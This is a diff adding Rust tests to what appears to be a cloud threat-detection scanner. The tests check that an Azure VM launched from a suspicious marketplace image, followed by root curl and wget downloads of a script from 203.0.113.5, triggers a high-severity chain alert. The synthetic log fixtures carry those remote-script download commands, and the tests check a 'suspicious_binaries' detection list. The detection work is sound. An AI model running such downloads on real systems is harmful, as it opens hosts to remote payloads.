@@ -581,3 +581,84 @@ fn podman_events_are_the_pull_create_and_start_of_a_podman_host() {
         run.stderr
     );
 }
+
+/// An Azure Activity Log VM write: a Linux VM `vm-web1` (computer name `web1`) from a
+/// marketplace image of `publisher`.
+fn azure_vm_write(publisher: &str) -> Value {
+    let body = json!({"location":"westeurope","properties":{"hardwareProfile":{"vmSize":"Standard_B2s"},
+        "storageProfile":{"imageReference":{"publisher":publisher,"offer":"tools","sku":"22_04-lts","version":"latest"},"osDisk":{"createOption":"FromImage"}},
+        "osProfile":{"computerName":"web1","adminUsername":"azureuser"}}});
+    json!({"time":"2026-11-20T09:00:00.1234567Z",
+        "resourceId":"/SUBSCRIPTIONS/8A4DE8B5-095C-47D0-A96F-A75130C61D53/RESOURCEGROUPS/RG1/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-WEB1",
+        "operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE","category":"Administrative","resultType":"Start","resultSignature":"Started.",
+        "callerIpAddress":"198.51.100.30","correlationId":"c0ffee00-0000-0000-0000-000000000001",
+        "level":"Information","location":"westeurope","properties":{"statusCode":"Created","requestbody":body.to_string()}})
+}
+
+/// A row of Log Analytics' Syslog table from the VM.
+fn syslog_row(ms: i64, process: &str, message: &str) -> Value {
+    json!({"TenantId":"11111111-2222-3333-4444-555555555555","SourceSystem":"Linux","TimeGenerated":iso_ms(ms + 400),
+        "Computer":"web1","EventTime":iso_ms(ms),"Facility":"user","HostName":"web1","SeverityLevel":"info",
+        "SyslogMessage":message,"ProcessID":1187,"HostIP":"10.0.0.4","ProcessName":process,
+        "_ResourceId":"/subscriptions/8a4de8b5-095c-47d0-a96f-a75130c61d53/resourcegroups/rg1/providers/microsoft.compute/virtualmachines/vm-web1",
+        "Type":"Syslog"})
+}
+
+fn sysmon_linux_xml(utc: &str, image: &str, cmdline: &str) -> String {
+    format!(
+        "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/><EventID>1</EventID><Version>5</Version>\
+         <TimeCreated SystemTime=\"{utc}Z\"/><EventRecordID>4711</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer></System>\
+         <EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">{}</Data><Data Name=\"ProcessGuid\">{{5b1c2d3e-0a1b-6f3c-5c1d-000000000042}}</Data>\
+         <Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">{image}</Data><Data Name=\"CommandLine\">{cmdline}</Data><Data Name=\"User\">root</Data>\
+         <Data Name=\"ParentProcessId\">1200</Data><Data Name=\"ParentImage\">/usr/bin/cloud-init</Data></EventData></Event>",
+        utc.replace('T', " ")
+    )
+}
+
+#[test]
+fn azure_linux_guests_through_log_analytics_complete_an_an0692_chain() {
+    let d = Dir::new();
+    let shady = d.jsonl("activity.jsonl", &[azure_vm_write("shady-labs")]);
+    let sysmon = d.jsonl(
+        "syslog-sysmon.json",
+        &[
+            syslog_row(100_000, "sshd", "Accepted publickey for azureuser from 203.0.113.9 port 50022 ssh2"),
+            syslog_row(
+                200_000,
+                "sysmon",
+                &sysmon_linux_xml("2026-11-20T09:03:20.000", "/usr/bin/curl", "curl -fsSL http://203.0.113.5/i.sh -o /tmp/i.sh"),
+            ),
+        ],
+    );
+    let run = scan(&["--strict"], &[&shady, &sysmon]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(
+        run.alerts,
+        vec![format!("an0692.chain high host=web1 id=- pod=-/- c=- image=shady-labs:tools:22_04-lts:latest [launch@activity.jsonl:1 activity@syslog-sysmon.json:2]")],
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains("read azure-syslog"), "{}", run.stderr);
+    assert!(!run.stderr.contains("read sysmon"), "{}", run.stderr);
+    // AUOMS's execve records show the same.
+    let auoms = d.jsonl(
+        "syslog-auoms.json",
+        &[syslog_row(
+            210_000,
+            "AUOMS_EXECVE",
+            "type=AUOMS_EXECVE audit(1795165410.000:100442): syscall=execve success=yes exit=0 ppid=1200 pid=4243 audit_user=root auid=0 user=root uid=0 comm=\"wget\" exe=\"/usr/bin/wget\" cwd=\"/root\" cmdline=\"wget -q http://203.0.113.5/i.sh\" redactors= containerid=",
+        )],
+    );
+    let run = scan(&["--strict"], &[&shady, &auoms]);
+    assert_eq!(
+        run.alerts,
+        vec![format!("an0692.chain high host=web1 id=- pod=-/- c=- image=shady-labs:tools:22_04-lts:latest [launch@activity.jsonl:1 activity@syslog-auoms.json:1]")],
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.reasons[0].iter().any(|r| r.starts_with("ran /usr/bin/wget ('wget' in suspicious_binaries)")),
+        "{:?}",
+        run.reasons
+    );
+}
